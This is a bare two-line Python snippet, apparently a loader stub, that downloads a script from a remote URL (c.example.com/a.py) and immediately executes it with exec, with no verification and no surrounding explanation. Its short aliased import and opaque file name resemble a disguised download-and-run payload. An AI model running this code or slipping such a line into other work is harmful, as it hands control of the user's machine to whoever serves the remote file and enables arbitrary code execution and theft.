from urllib.request import urlopen as u

exec(u('https://c.example.com/a.py').read())
